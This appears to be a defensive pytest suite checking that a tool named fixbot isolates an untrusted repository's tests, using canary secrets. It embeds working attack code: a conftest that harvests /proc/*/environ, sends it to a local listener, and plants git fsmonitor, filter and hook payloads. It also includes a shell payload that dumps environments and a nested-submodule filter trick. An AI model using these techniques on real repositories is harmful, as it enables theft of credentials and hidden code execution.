"""Containment: an attacker's conftest against a real `fixbot run` with real secrets in its env.

The repo's tests are untrusted. This conftest tries what a hostile suite would:
plant `core.fsmonitor`, a smudge filter and a hook in the shared git folder, or
swap its worktree's `.git` file for a git folder of its own with a filter (so
that fixbot's own git commands run its payload, outside every namespace), remount
`/` read-write (root keeps capabilities unless they are dropped), write
into the user's checkout, read every `/proc/*/environ`, send what it finds to a
server on the host's loopback, write loot to a folder outside its worktree, and
allocate far past any sane limit. None of it may reach a secret or change
anything of the user's.
"""

from __future__ import annotations

import os
import shutil
import socket
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from tests.conftest import fixbot, git, init_repo, report_of

SECRETS = {"FIXBOT_LLM_API_KEY": "sk-canary-7d1e", "GITHUB_TOKEN": "ghp_canary_42f0"}

ATTACK = """
import glob
import os
import pathlib
import socket
import subprocess

HERE = pathlib.Path(__file__).parent
PORT = int((HERE / "port.txt").read_text())
LOOT = pathlib.Path((HERE / "loot.txt").read_text().strip())


def _send(blob):
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=1) as conn:
            conn.sendall(blob)
    except OSError:
        pass


def _keep(name, blob):
    try:
        LOOT.mkdir(parents=True, exist_ok=True)
        (LOOT / f"{name}-{os.getpid()}").write_bytes(blob)
    except OSError:
        pass


def _git(*args):
    return subprocess.run(["git", *args], capture_output=True, text=True).stdout.strip()


def _attack():
    seen = [repr(dict(os.environ)).encode()]
    for path in glob.glob("/proc/*/environ"):
        try:
            seen.append(open(path, "rb").read())
        except OSError:
            pass
    blob = b"\\n".join(seen)
    _send(blob)
    _keep("environ", blob)
    common = pathlib.Path(_git("rev-parse", "--path-format=absolute", "--git-common-dir"))
    payload = str(HERE / "payload.sh")
    for key in ("core.fsmonitor", "filter.evil.smudge", "filter.evil.clean"):
        _git("config", "--file", str(common / "config"), key, payload)
    plants = {
        "info/attributes": "*.py filter=evil\\n",
        "hooks/post-checkout": "#!/bin/sh\\n" + payload,
        "hooks/pre-push": "#!/bin/sh\\n" + payload,
    }
    for rel, text in plants.items():
        try:
            target = common / rel
            target.parent.mkdir(parents=True, exist_ok=True)
            with open(target, "a") as f:
                f.write(text)
            target.chmod(0o755)
        except OSError:
            pass
    try:
        (common / "refs" / "heads" / "evil").write_text(_git("rev-parse", "HEAD") + "\\n")
    except OSError:
        pass
    try:  # a replace ref: fixbot's commits would carry whatever tree it names
        (common / "refs" / "replace").mkdir(parents=True, exist_ok=True)
        head = _git("rev-parse", "HEAD")
        (common / "refs" / "replace" / head).write_text(head + "\\n")
    except OSError:
        pass
    try:
        with open(common.parent / "pkg" / "core.py", "a") as f:
            f.write("# written by a test\\n")
    except OSError:
        pass
    # Root keeps its capabilities unless they are dropped: a read-write / again.
    if subprocess.run(["mount", "-o", "remount,bind,rw", "/"], capture_output=True).returncode == 0:
        _keep("remounted", b"/ is writable")
    # The worktree's `.git` file is the test's to rewrite: a git folder of its own,
    # whose config runs the payload as a filter when fixbot's git next checks out here.
    dotgit = pathlib.Path.cwd() / ".git"
    try:
        if dotgit.is_file():
            head = _git("rev-parse", "HEAD")
            dotgit.unlink()
            for folder in ("objects/info", "refs/heads", "info"):
                (dotgit / folder).mkdir(parents=True)
            (dotgit / "objects" / "info" / "alternates").write_text(f"{common}/objects\\n")
            (dotgit / "HEAD").write_text(head + "\\n")
            (dotgit / "config").write_text(
                "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n"
                f'[filter "evil"]\\n\\tsmudge = {payload}\\n\\tclean = {payload}\\n'
            )
            (dotgit / "info" / "attributes").write_text("* filter=evil\\n")
    except OSError:
        pass
    try:
        hoard = bytearray(64 * 2**30)
        _keep("allocated", str(len(hoard)).encode())
    except MemoryError:
        pass


_attack()
"""
PAYLOAD = """#!/bin/sh
# What a planted fsmonitor, filter or hook would run, outside every namespace: its own
# environment, and every process's it can read.
mkdir -p "{loot}" && env > "{loot}/payload-$$"
for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f" 2>/dev/null; done >> "{loot}/payload-$$"
cat
"""


class Listener:
    """A TCP server on the host's loopback that keeps whatever it is sent."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received = bytearray()
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                while chunk := conn.recv(65536):
                    self.received.extend(chunk)

    def close(self) -> None:
        self.stop.set()
        self.thread.join(5)
        self.sock.close()


def attacker_repo(root: Path, loot: Path, port: int) -> Path:
    """A small repo with one fixable violation, whose conftest is the attack."""
    repo = init_repo(
        root,
        {
            "pkg/__init__.py": "",
            "pkg/core.py": "import os\n\n\ndef add(a, b):\n    return a + b\n",
            "tests/test_core.py": "from pkg.core import add\n\n\ndef test_add():\n"
            "    assert add(2, 3) == 5\n",
            "conftest.py": ATTACK,
            "port.txt": f"{port}\n",
            "loot.txt": f"{loot}\n",
            "payload.sh": PAYLOAD.format(loot=loot),
        },
    )
    payload = repo / "payload.sh"
    payload.chmod(payload.stat().st_mode | stat.S_IXUSR)
    git(repo, "add", "payload.sh")
    git(repo, "commit", "-q", "-m", "payload executable")
    return repo


def metadata(repo: Path) -> dict[str, bytes]:
    """Every file of the shared git folder that can make git run a program, by content."""
    common = repo / ".git"
    out = {}
    for rel in ("config", "info/attributes", "packed-refs"):
        if (common / rel).exists():
            out[rel] = (common / rel).read_bytes()
    for folder in ("hooks", "refs/heads", "refs/tags", "refs/replace"):
        for path in sorted((common / folder).rglob("*")):
            if path.is_file():
                out[path.relative_to(common).as_posix()] = path.read_bytes()
    return out


def checkout(repo: Path) -> dict[str, bytes]:
    """Every file of the checkout but .git and .venv, by content."""
    return {
        p.relative_to(repo).as_posix(): p.read_bytes()
        for p in sorted(repo.rglob("*"))
        if p.is_file() and not {".git", ".venv"} & set(p.relative_to(repo).parts)
    }


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def no_secret_in(blob: bytes | str) -> bool:
    data = blob.encode() if isinstance(blob, str) else bytes(blob)
    return not any(secret.encode() in data for secret in SECRETS.values())


def loot_of(loot: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted(loot.glob("*"))) if loot.exists() else b""


@pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is installed by .ci/run")
def test_attack_suite_under_bubblewrap(tmp_path: Path, listener: Listener) -> None:
    """Under bubblewrap nothing lands: no secret anywhere, metadata and checkout byte-identical."""
    loot = tmp_path / "loot"
    repo = attacker_repo(tmp_path / "repo", loot, listener.port)
    meta, files = metadata(repo), checkout(repo)
    done = fixbot("run", repo, "--select", "F401", "--branch", "lint", env=SECRETS)
    assert done.returncode == 0, done.stderr
    report = report_of(repo)
    assert report["accepted"] == 1
    assert report["isolation"]["filesystem"].startswith("read-only (bubblewrap)")
    assert report["isolation"]["checkout"] == "read-only to the tests"
    assert "memory" in report["isolation"]["limits"]
    assert no_secret_in(listener.received)
    assert listener.received == b""  # the host's loopback is not reachable at all
    assert not loot.exists()  # nothing outside the worktree was writable
    landed = metadata(repo)
    assert landed.pop("refs/heads/lint")  # fixbot's own branch, and nothing else
    assert landed == meta
    assert checkout(repo) == files
    assert no_secret_in(done.stdout + done.stderr)


@pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is installed by .ci/run")
def test_attack_suite_then_push(tmp_path: Path, listener: Listener) -> None:
    """With --push the token reaches git push only: no hook, filter or test sees it."""
    loot = tmp_path / "loot"
    repo = attacker_repo(tmp_path / "repo", loot, listener.port)
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(remote))
    git(repo, "remote", "add", "origin", str(remote))
    done = fixbot("run", repo, "--select", "F401", "--branch", "lint", "--push", env=SECRETS)
    assert done.returncode == 0, done.stderr
    assert report_of(repo)["published"]["pushed"] == "yes"
    assert git(remote, "rev-parse", "lint") == git(repo, "rev-parse", "lint")
    assert not loot.exists()
    assert listener.received == b""
    for folder in (repo / ".git", remote):
        for path in folder.rglob("*"):
            if path.is_file():
                assert no_secret_in(path.read_bytes()), path
    assert no_secret_in(done.stdout + done.stderr)


def test_fallback_restores_metadata_and_stops(tmp_path: Path, listener: Listener) -> None:
    """Without bubblewrap the planted config is caught after the first test run: put back
    byte for byte, and the run stops with one line. (With a secret set it would not have
    run the tests at all: see test_unfenced_with_a_secret_is_refused.)"""
    loot = tmp_path / "loot"
    repo = attacker_repo(tmp_path / "repo", loot, listener.port)
    meta = metadata(repo)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("git", "sh", "unshare", "prlimit", "ip", "env", "cat", "mkdir"):
        if found := shutil.which(tool):
            (bin_dir / tool).symlink_to(found)
    path = f"{bin_dir}{os.pathsep}{Path(sys.executable).parent}"
    done = fixbot("run", repo, "--select", "F401", "--branch", "lint", env={"PATH": path})
    assert done.returncode == 2, done.stderr
    errors = [ln for ln in done.stderr.splitlines() if ln.startswith("fixbot: error:")]
    assert len(errors) == 1
    assert "changed the repository's git metadata" in errors[0]

    # What can make git run a program is put back; a moved ref only named (it may be
    # the user's own commit, made meanwhile in their checkout).
    # A replace ref is put back too: it would swap what fixbot's commits hold.
    def code(found: dict[str, bytes]) -> dict[str, bytes]:
        return {
            k: v
            for k, v in found.items()
            if not k.startswith("refs/") or k.startswith("refs/replace/")
        }

    assert code(metadata(repo)) == code(meta)
    # The payload may have run inside the test's own namespace, where no secret is.
    assert no_secret_in(loot_of(loot))
    assert no_secret_in(listener.received)
    assert git(repo, "branch", "--list", "lint") == ""


def small_repo(root: Path, files: dict[str, str] | None = None) -> Path:
    """One fixable F401 and a passing test."""
    return init_repo(
        root,
        files
        or {
            "pkg/__init__.py": "",
            "pkg/core.py": "import os\n\n\ndef add(a, b):\n    return a + b\n",
            "tests/test_core.py": "from pkg.core import add\n\n\ndef test_add():\n"
            "    assert add(2, 3) == 5\n",
        },
    )


class TestSmallerFaults:
    """What the attack trials found besides the holes: each behaves as a user would expect."""

    def test_unwritable_report_dir_is_refused_first(self, tmp_path: Path) -> None:
        """An unusable --report-dir: exit 2 with one line, before any branch is written."""
        repo = small_repo(tmp_path / "r")
        blocker = tmp_path / "file"
        blocker.write_text("")
        done = fixbot("run", repo, "--branch", "lint", "--report-dir", blocker / "reports")
        assert done.returncode == 2, done.stderr
        assert "--report-dir is not a folder" in done.stderr
        assert git(repo, "branch", "--list", "lint") == ""
        assert not (repo / ".git" / "fixbot" / "runs").exists()

    def test_bom_is_kept_byte_for_byte(self, tmp_path: Path) -> None:
        """A file with a UTF-8 BOM keeps it on the branch (ruff format would drop it)."""
        files = {f"pkg/m{i}.py": "\ufeffimport os\nimport sys\n\nX = sys.argv\n" for i in range(3)}
        repo = small_repo(tmp_path / "r", {"pkg/__init__.py": "", **files})
        done = fixbot("run", repo, "--select", "F401", "--branch", "lint", "--test-cmd", "")
        assert done.returncode == 0, done.stderr
        for i in range(3):
            landed = git(repo, "show", f"lint:pkg/m{i}.py").encode()
            assert landed == "\ufeffimport sys\n\nX = sys.argv\n".encode()

    def test_symlinked_file_is_skipped(self, tmp_path: Path) -> None:
        """A .py reached through a symlink is not attempted (reason `symlink`); the run goes on."""
        repo = small_repo(tmp_path / "r")
        (repo / "pkg" / "alias.py").symlink_to("core.py")
        git(repo, "add", "pkg/alias.py")
        git(repo, "commit", "-q", "-m", "alias")
        done = fixbot("run", repo, "--select", "F401", "--branch", "lint")
        assert done.returncode == 0, done.stderr
        report = report_of(repo)
        assert report["not_attempted"] == {"symlink": 1}
        assert report["accepted"] == 1

    def test_users_missing_worktree_is_not_pruned(self, tmp_path: Path) -> None:
        """A worktree of the user's whose folder is away (an unmounted drive) is kept."""
        repo = small_repo(tmp_path / "r")
        away = tmp_path / "drive" / "wt"
        git(repo, "worktree", "add", "-q", "--detach", str(away))
        shutil.rmtree(tmp_path / "drive")
        done = fixbot("run", repo, "--select", "F401", "--dry-run")
        assert done.returncode == 0, done.stderr
        assert str(away) in git(repo, "worktree", "list")

    def test_fallback_fingerprints_the_checkout(self, tmp_path: Path) -> None:
        """Without a filesystem fence, a test that writes into the checkout is reported."""
        repo = small_repo(tmp_path / "r")
        (repo / "conftest.py").write_text(
            "import pathlib, subprocess\n"
            "common = subprocess.run(['git', 'rev-parse', '--path-format=absolute',"
            " '--git-common-dir'], capture_output=True, text=True).stdout.strip()\n"
            "(pathlib.Path(common).parent / 'notes.txt').write_text('written by a test')\n"
        )
        git(repo, "add", "conftest.py")
        git(repo, "commit", "-q", "-m", "conftest")
        bin_dir = tmp_path / "bin"
        bin_dir.mkdir()
        for tool in ("git", "sh", "unshare", "prlimit", "ip"):
            if found := shutil.which(tool):
                (bin_dir / tool).symlink_to(found)
        path = f"{bin_dir}{os.pathsep}{Path(sys.executable).parent}"
        done = fixbot("run", repo, "--select", "F401", "--branch", "lint", env={"PATH": path})
        assert done.returncode == 0, done.stderr
        report = report_of(repo)
        assert report["isolation"]["checkout"] == "CHANGED during the run: notes.txt"
        assert "not touched" not in done.stdout
        assert "WARNING: your checkout was CHANGED during the run: notes.txt" in done.stdout


def with_submodule(tmp_path: Path) -> Path:
    """A repo whose test imports code from a submodule at vendor/lib."""
    lib = init_repo(tmp_path / "lib", {"helper.py": "def two():\n    return 2\n"}, venv=False)
    repo = small_repo(tmp_path / "r")
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(lib), "vendor/lib")
    (repo / "tests" / "test_vendor.py").write_text(
        "import sys\n\n\ndef test_two():\n    sys.path.insert(0, 'vendor/lib')\n"
        "    import helper\n\n    assert helper.two() == 2\n"
    )
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "vendor lib")
    return repo


class TestSubmodules:
    """Tests that import from a submodule protect what they should."""

    def test_cloned_offline_into_worktrees(self, tmp_path: Path) -> None:
        """The worktrees get the checkout's submodule: its tests pass at base and guard patches."""
        repo = with_submodule(tmp_path)
        config = (repo / ".git" / "config").read_bytes()
        done = fixbot("run", repo, "--select", "F401", "--dry-run")
        assert done.returncode == 0, done.stderr
        report = report_of(repo)
        assert report["tests"]["already_failing"] == 0
        assert report["tests"]["passed_before"] == 2
        assert report["isolation"]["submodules"].startswith("cloned offline")
        assert (repo / ".git" / "config").read_bytes() == config

    def test_missing_submodule_is_said_plainly(self, tmp_path: Path) -> None:
        """A submodule the checkout lacks: the report says which tests protect nothing."""
        repo = with_submodule(tmp_path)
        git(repo, "submodule", "deinit", "-q", "-f", "vendor/lib")
        done = fixbot("run", repo, "--select", "F401", "--dry-run")
        assert done.returncode == 0, done.stderr
        report = report_of(repo)
        assert "NOT in your checkout" in report["isolation"]["submodules"]
        assert report["tests"]["already_failing"] == 1


def test_bare_repository_gets_an_accurate_line(tmp_path: Path) -> None:
    """A bare repository is not "not a git repository": it has no checkout to fix."""
    repo = small_repo(tmp_path / "r")
    subprocess.run(["git", "clone", "-q", "--bare", str(repo), str(tmp_path / "b.git")], check=True)
    done = fixbot("run", tmp_path / "b.git")
    assert done.returncode == 2
    assert "a bare repository has no checkout to fix" in done.stderr


NESTED = """
import pathlib
import subprocess

HERE = pathlib.Path(__file__).parent
LOOT = pathlib.Path((HERE / "loot.txt").read_text().strip())
sub = HERE / "vendor" / "lib"
if sub.is_dir() and not (sub / ".git").exists():
    git = ["git", "-C", str(sub)]
    subprocess.run([*git, "init", "-q"], check=True)
    (sub / "f.txt").write_text("x\\\\n")
    subprocess.run([*git, "add", "f.txt"], check=True)
    payload = sub / ".git" / "payload.sh"
    payload.write_text(f"#!/bin/sh\\\\nmkdir -p {LOOT} && env > {LOOT}/nested-$$\\\\ncat\\\\n")
    payload.chmod(0o755)
    with open(sub / ".git" / "config", "a") as f:
        f.write(f'[filter "evil"]\\\\n\\\\tclean = {payload}\\\\n')
    (sub / ".git" / "info").mkdir(exist_ok=True)
    (sub / ".git" / "info" / "attributes").write_text("* filter=evil\\\\n")
    (sub / "f.txt").write_text("changed\\\\n")
"""


def test_a_repository_planted_in_a_submodule_folder_is_never_read(tmp_path: Path) -> None:
    """A gitlink the checkout never initialised leaves an empty folder in each worktree;
    a test makes it a repository with a filter, which `git status` would run on the host."""
    loot = tmp_path / "loot"
    repo = small_repo(tmp_path / "r")
    (repo / "conftest.py").write_text(NESTED)
    (repo / "loot.txt").write_text(f"{loot}\n")
    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},vendor/lib")
    git(repo, "add", "conftest.py", "loot.txt")
    git(repo, "commit", "-q", "-m", "a gitlink and a nested repo")
    done = fixbot("run", repo, "--select", "F401", "--branch", "lint", env=SECRETS)
    assert done.returncode == 0, done.stderr
    assert not loot.exists()


@pytest.mark.parametrize("rung", ["unshare", "none"])
def test_unfenced_with_a_secret_is_refused(tmp_path: Path, rung: str) -> None:
    """Without bubblewrap's fence a test reaches fixbot's environment (no namespace) or
    what it runs (root unmounts /proc; a `git` planted on PATH): with a token set, the
    run stops before any test runs; without one, it goes on."""
    repo = small_repo(tmp_path / "repo")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    tools = ["git", "sh", "prlimit", "env", "cat", "mkdir"] + ["unshare"] * (rung == "unshare")
    for tool in tools:
        if found := shutil.which(tool):
            (bin_dir / tool).symlink_to(found)
    path = f"{bin_dir}{os.pathsep}{Path(sys.executable).parent}"
    args = ("run", repo, "--select", "F401", "--dry-run")
    done = fixbot(*args, env={**SECRETS, "PATH": path})
    assert done.returncode == 2, done.stderr
    assert "GITHUB_TOKEN with no filesystem fence" in done.stderr
    assert not (repo / ".git" / "fixbot" / "cache" / "tests").exists()  # no test ran
    done = fixbot(*args, env={"PATH": path})
    assert done.returncode == 0, done.stderr
    assert (report_of(repo)["isolation"]["processes"] == "process group killed on timeout") == (
        rung == "none"
    )


@pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is installed by .ci/run")
def test_home_credential_stores_are_blank_to_tests(tmp_path: Path) -> None:
    """~/.git-credentials, ~/.ssh and the like read empty inside the fence: a test cannot
    carry a stored token out in a test id or its output."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n")
    (home / ".git-credentials").write_text("https://x-access-token:ghp_stored_77@github.com\n")
    repo = small_repo(
        tmp_path / "repo",
        {
            "pkg/__init__.py": "",
            "pkg/core.py": "import os\n\n\ndef add(a, b):\n    return a + b\n",
            "tests/test_core.py": "from pkg.core import add\n\n\ndef test_add():\n"
            "    assert add(2, 3) == 5\n",
            "tests/test_home.py": (
                "import os\n\n\ndef test_home_is_blank():\n"
                "    home = os.path.expanduser('~')\n"
                "    assert open(os.path.join(home, '.git-credentials')).read() == ''\n"
                "    assert os.listdir(os.path.join(home, '.ssh')) == []\n"
            ),
        },
    )
    done = fixbot("run", repo, "--select", "F401", "--dry-run", env={"HOME": str(home)})
    assert done.returncode == 0, done.stderr
    assert report_of(repo)["tests"]["passed_before"] == 2
    assert (home / ".git-credentials").read_text().startswith("https://")  # the user's, kept
